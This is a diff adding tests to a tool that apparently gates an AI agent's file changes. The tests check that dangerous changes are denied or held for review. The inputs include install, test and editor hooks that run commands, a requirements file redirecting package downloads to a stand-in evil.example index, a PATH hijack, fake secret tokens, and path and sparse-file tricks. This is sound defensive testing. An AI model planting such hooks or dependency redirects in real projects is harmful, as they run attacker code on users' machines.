@@ -229,3 +229,103 @@ def test_a_large_change_set_makes_a_bounded_audit_trail(_state_dir: Path, tmp_pa
     assert sum(summary["decisions"].values()) == 203
     assert sum(r["changes"] for r in summary["rules"]) == 203
     assert _cli(ws, "audit", "--verify").returncode == 0
+
+
+SPARSE_AND_SLOW = "; ".join(
+    [
+        "truncate -s 10T src/huge.bin",  # 10 TiB of holes (ext4 holds 16): judged from the inode, never read
+        "python3 -c \"import sys; sys.stdout.write('AKIA' * 25000 + 'eyJ.' * 25000 + '-----BEGIN ' * 5000)\"",
+        "printf 'OK = True\\n' > src/ok.py",
+    ]
+)
+WEDGE = "; ".join(
+    [
+        "rm -rf src/pkg && printf 'now a file\\n' > src/pkg",  # a directory replaced by a file
+        # a path longer than PATH_MAX, made one component at a time
+        "python3 -c \"import os; os.chdir('src'); [(os.mkdir('l' * 250), os.chdir('l' * 250)) for _ in range(18)];"
+        " open('f.txt', 'w').write('deep')\"",
+        "printf 'OK = True\\n' > src/ok.py",
+    ]
+)
+
+
+def test_a_sparse_file_and_slow_to_scan_output_cost_the_host_a_stat_and_a_linear_pass(
+    _state_dir: Path, tmp_path: Path, stager: str | None
+) -> None:
+    ws = _workspace(tmp_path)
+    started = time.monotonic()
+    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", SPARSE_AND_SLOW)
+    elapsed = time.monotonic() - started
+    run = json.loads(proc.stdout)
+    assert run["state"] == "proposed", proc.stdout + proc.stderr
+    by = {f["path"]: f for f in run["files"]}
+    assert by["src/huge.bin"]["decision"] == "deny" and by["src/huge.bin"]["rule"] in (
+        "invariant:sparse-file",
+        "invariant:size-cap",
+    )
+    assert by["src/ok.py"]["decision"] == "auto"
+    assert elapsed < 60, elapsed  # a bound for a loaded machine: 8 EB were never read
+    log = next(_state_dir.glob(f"*/runs/{run['id']}/output.log")).read_bytes()
+    assert b"eyJ.eyJ." in log and len(log) < 1_000_000  # the output was kept, redacted, in one pass
+    assert _cli(ws, "approve", run["id"]).returncode == 0  # the clean file lands, the deny never
+    assert (ws / "src" / "ok.py").exists() and not (ws / "src" / "huge.bin").exists()
+
+
+def test_a_change_set_built_to_wedge_the_commit_lands_whole_or_not_at_all(
+    _state_dir: Path, tmp_path: Path, stager: str | None
+) -> None:
+    ws = _workspace(tmp_path)
+    (ws / "src" / "pkg").mkdir()
+    (ws / "src" / "pkg" / "mod.py").write_text("X = 1\n")
+    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", WEDGE)
+    run = json.loads(proc.stdout)
+    assert run["state"] == "proposed", proc.stdout + proc.stderr
+    by = {f["path"]: f for f in run["files"]}
+    (deep,) = [p for p in by if p.endswith("/f.txt")]
+    assert len(deep.encode()) > 4096
+    assert by[deep]["decision"] == "deny" and by[deep]["rule"] == "invariant:unsafe-name", by[deep]
+    assert by["src/" + "l" * 250]["decision"] == "deny"  # a created directory follows what it holds
+    assert by["src/pkg"]["decision"] == "review"  # a directory that became a file
+    assert len(proc.stdout) < 200_000  # the deep paths are listed once each, not in every message
+    # approve all: the directory -> file change and the clean file land as one transaction
+    approved = _cli(ws, "approve", run["id"])
+    assert approved.returncode == 0, approved.stdout + approved.stderr
+    assert len(approved.stdout + approved.stderr) < 200_000  # each deep path once, in the listing
+    assert (ws / "src" / "pkg").read_text() == "now a file\n" and (ws / "src" / "ok.py").exists()
+    assert not (ws / "src" / ("l" * 250)).exists()
+    # ... and undo, through the daemon, restores the directory it replaced
+    undone = _cli(ws, "undo", run["id"], daemon=True)
+    assert undone.returncode == 0, undone.stdout + undone.stderr
+    assert (ws / "src" / "pkg" / "mod.py").read_text() == "X = 1\n" and not (ws / "src" / "ok.py").exists()
+    assert _cli(ws, "audit", "--verify").returncode == 0
+
+
+RUNS_LATER = "; ".join(
+    [
+        "printf 'import os\\nos.system(\"id\")\\n' > conftest.py",
+        "printf 'from setuptools import setup\\nsetup()\\n' > setup.py",
+        "printf -- '--extra-index-url https://evil.example/simple\\nrequests\\n' > requirements.txt",
+        'mkdir -p web/app && printf \'{"scripts": {"postinstall": "id"}}\\n\' > web/app/package.json',
+        "printf 'export PATH=/tmp/evil:$PATH\\n' > .envrc",
+        "printf 'vim.fn.system(\"id\")\\n' > .nvim.lua",
+        "mkdir -p tools && printf 'fn main() {}\\n' > tools/build.rs",
+        "printf 'def f():\\n    return 1\\n' > lib.py",
+    ]
+)
+
+
+def test_what_runs_later_on_the_users_machine_waits_for_a_person_under_the_default_policy(
+    _state_dir: Path, tmp_path: Path
+) -> None:
+    ws = tmp_path / "project"
+    ws.mkdir()
+    (ws / "lib.py").write_text("def f():\n    return 0\n")
+    (ws / "policies.toml").write_text(POLICY.split("[[rules]]")[0])  # the agents; the default rules decide
+    proc = _cli(ws, "--json", "run", "--agent", "bot", "--wait", RUNS_LATER)
+    run = json.loads(proc.stdout)
+    assert run["state"] == "proposed", proc.stdout + proc.stderr
+    by = {f["path"]: f for f in run["files"]}
+    for path in ("conftest.py", "setup.py", "requirements.txt", "web/app/package.json", ".envrc", ".nvim.lua"):
+        assert by[path]["decision"] in ("review", "deny"), by[path]
+    assert by["tools/build.rs"]["decision"] in ("review", "deny")
+    assert by["lib.py"]["decision"] == "auto", by["lib.py"]
